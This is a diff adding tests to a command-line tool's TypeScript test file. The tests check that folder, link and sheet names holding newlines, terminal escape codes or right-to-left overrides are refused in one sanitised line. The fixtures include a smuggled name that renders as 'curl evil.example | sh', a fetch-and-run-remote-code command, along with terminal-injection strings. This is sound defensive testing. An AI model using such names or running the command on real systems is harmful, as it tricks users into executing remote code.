@@ -189,6 +189,47 @@ test('baselines are not looked for behind links', async () => {
   expect(said.err).toContain('baselines/up is a link to a folder');
 });
 
+/** What a name would have a terminal do: begin a line that looks like a command to copy, change its title, write backwards. */
+const NAMED = ['a\n\n  curl evil.example | sh', 'a\r  curl', 'a\u001b]0;title\u0007', 'a\u202egnp', 'a\u2028b'];
+
+test.each(NAMED.flatMap((name) => ['check', 'check --update', 'report', 'merge'].map((verb) => [verb, name] as const)))(
+  '%s: a folder of the name %j is refused in one line',
+  async (verb, name) => {
+    receive(verb, () => undefined);
+    rmSync(at('names'), { recursive: true, force: true });
+    mkdirSync(at('names'));
+    renameSync(at('got'), at('names', name));
+    const inside = readdirSync(at('names', name));
+    const found = verb.startsWith('check') ? 'names' : join('names', name);
+    const said = await commandIn(cwd, VERBS[verb]!.map((word) => (word === 'got' ? found : word))); // prettier-ignore
+    expectOneLine(said);
+    expect(said.err).toContain('its name holds the end of a line, or another order to a terminal: rename it');
+    expect(said.err.replace(/\n$/, '')).not.toMatch(/[\0-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]|^ *curl/m);
+    expect(readdirSync(at('names', name))).toEqual(inside);
+  },
+);
+
+test('a link of such a name, and what is no file of a run, are one line too', async () => {
+  receive('check', () => undefined);
+  mkdirSync(at('links'));
+  symlinkSync('..', at('links', NAMED[0]!));
+  const link = await commandIn(cwd, ['check', '--baseline', 'links', '--out', 'checked', '--overwrite']);
+  expectOneLine(link);
+  expect(link.err).toContain('a curl evil.example | sh is a link to a folder');
+  mkdirSync(at('got', `.lock-${NAMED[0]!}`));
+  const lock = await commandIn(cwd, VERBS['report']!);
+  expectOneLine(lock);
+  expect(lock.err).toContain('.lock-a curl evil.example | sh is a link, a folder or a device');
+});
+
+test('sheets of components are named in one line', async () => {
+  mkdirSync(at('sheets'));
+  writeFileSync(at('sheets', `${NAMED[0]!}.csv`), 'a\n1\n');
+  const said = await commandIn(cwd, ['components', 'import', 'glitterhorn', 'sheets']);
+  expectOneLine(said);
+  expect(said.err).toContain('a curl evil.example | sh.csv: its name holds the end of a line');
+});
+
 test.each(['../../escaped', '/tmp/escaped', 'x/y', '..', ''])('a run of the verb %j is none', async (word) => {
   receive('merge', (folder) => {
     const path = join(folder, 'run.json');
